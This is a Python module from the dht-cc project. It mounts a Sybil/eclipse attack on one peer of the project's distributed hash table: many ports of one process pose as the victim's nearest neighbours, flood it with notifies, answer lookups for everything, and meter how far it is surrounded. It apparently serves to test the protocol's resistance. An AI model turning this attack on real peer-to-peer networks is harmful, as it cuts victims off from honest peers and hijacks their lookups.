# Copyright (c) 2026 The dht-cc authors
#
# SPDX-License-Identifier: GPL-2.0-only
"""Many peers of one process that try to be all that a victim knows of its ring.

An id is the digest of address and port, so the ports of one address suffice to come next to anybody. The meter asks the
victim, once a second, who its neighbours are.
"""

import asyncio
import collections
import json
import secrets
import signal
import time

from attacks.aim import add_aim, number_of
from attacks.floods import own_address
from attacks.places import nearest_ports
from frames import ACK, LOOKUP, NEIGHBOURS, NOTIFY, QUERY, Frame, Rejected, area_of, decode, encode, id_of, token_in

SUCCESSORS = 8  # of those that a peer keeps


class Sybil(asyncio.DatagramProtocol):
    """One of them: responsible for everything, with others of its kind around it."""

    def __init__(self, gang, number):
        self.gang, self.number, self.me, self.transport = gang, number, gang.members[number], None
        self.token = 0  # what the victim knows us by

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, address):
        try:
            frame = decode(data, streamed=False)
        except Rejected:
            return
        if frame.type == QUERY:
            self.gang.count["queries_answered"] += 1
            members, here = self.gang.members, self.number
            peers = tuple(members[(here + i) % len(members)] for i in range(1, min(SUCCESSORS, len(members) - 1) + 1))
            answer = Frame(NEIGHBOURS, frame.id, frame.attempt, responsible=True, predecessor=members[here - 1], peers=peers)
            self.transport.sendto(encode(answer), address[:2])
        elif frame.type == NEIGHBOURS and address[:2] == self.gang.options.target:
            self.token = token_in(frame) or self.token
        elif frame.type == LOOKUP:
            self.gang.count["lookups_answered"] += 1
            answer = Frame(ACK, frame.id, frame.attempt, frame.hops, frame.marked, endpoint=self.me)
            self.transport.sendto(encode(answer), address[:2])

    def notify(self):
        """Tells the victim of itself: by a query, which brings a token, or by a notify, which needs one."""
        target = self.gang.options.target
        frame = Frame(NOTIFY if self.token else QUERY, secrets.randbits(64), key=id_of(target))
        frame.extensions = area_of(self.token)
        self.transport.sendto(encode(frame), target)

    async def on_connection(self, reader, writer):
        """Requests are read, and dropped."""
        self.gang.count["connections"] += 1
        try:
            while data := await reader.read(65536):
                self.gang.count["bytes_swallowed"] += len(data)
        except (OSError, asyncio.CancelledError):
            pass
        writer.close()


class Meter(asyncio.DatagramProtocol):
    """Asks the victim, from a port that is nobody's, for a key that is its own as long as nobody sits next to it."""

    def __init__(self, gang):
        self.gang, self.transport, self.token = gang, None, 0

    def connection_made(self, transport):
        self.transport = transport

    def ask(self):
        key = (id_of(self.gang.options.target) + 1) % 2**160
        frame = Frame(QUERY, secrets.randbits(64), key=key, extensions=area_of(self.token))
        self.transport.sendto(encode(frame), self.gang.options.target)

    def datagram_received(self, data, address):
        try:
            frame = decode(data, streamed=False)
        except Rejected:
            return
        if frame.type == NEIGHBOURS and frame.responsible and address[:2] == self.gang.options.target:
            if not token_in(frame):  # who shows no token gets a short answer
                self.gang.seen(frame)
            self.token = token_in(frame) or self.token


class Sybils:
    """many ports of one process that try to surround a peer"""

    @staticmethod
    def add_options(parser):
        add_aim(parser, "notifies, of all of them together,", 20)
        add = parser.add_argument
        add("--count", type=number_of(2, 256), default=16, metavar="NUMBER", help="how many, 2 to 256 (16)")

    def __init__(self, options):
        self.options, self.count, self.history = options, collections.Counter(), []
        self.members = nearest_ports(own_address(options.target), options.target, options.count)

    def seen(self, frame):
        sybils = sum(one in self.members for one in frame.peers)
        self.history.append((frame.predecessor in self.members, sybils, len(frame.peers)))

    def run(self):
        return asyncio.run(self.attack())

    async def attack(self):
        loop, stop, begin = asyncio.get_running_loop(), asyncio.Event(), time.monotonic()
        for number in (signal.SIGINT, signal.SIGTERM):
            loop.add_signal_handler(number, stop.set)
        sybils = [Sybil(self, number) for number in range(len(self.members))]
        for one in sybils:
            await loop.create_datagram_endpoint(lambda one=one: one, local_addr=one.me)
            await asyncio.start_server(one.on_connection, *one.me)
        meter = Meter(self)
        await loop.create_datagram_endpoint(lambda: meter, local_addr=(self.members[0][0], 0))
        work = [asyncio.create_task(self.notify(sybils)), asyncio.create_task(self.measure(meter))]
        await asyncio.wait([asyncio.create_task(stop.wait())], timeout=self.options.duration)
        for one in work:
            one.cancel()
        self.report(time.monotonic() - begin)
        return 0

    async def notify(self, sybils):
        number = 0
        while True:
            sybils[number % len(sybils)].notify()
            self.count["notifies"] += 1
            number += 1
            await asyncio.sleep(1 / self.options.rate if self.options.rate else 0.001)

    async def measure(self, meter):
        while True:
            meter.ask()
            await asyncio.sleep(1)

    def report(self, seconds):
        predecessor, sybils, successors = self.history[-1] if self.history else (False, 0, 0)
        last = {"predecessor_is_sybil": predecessor, "successors": successors, "successors_that_are_sybils": sybils}
        last["surrounded"] = predecessor and 0 < sybils == successors
        print(json.dumps({"seconds": round(seconds, 3), **self.count, "victim_answers": len(self.history), **last}, indent=2))
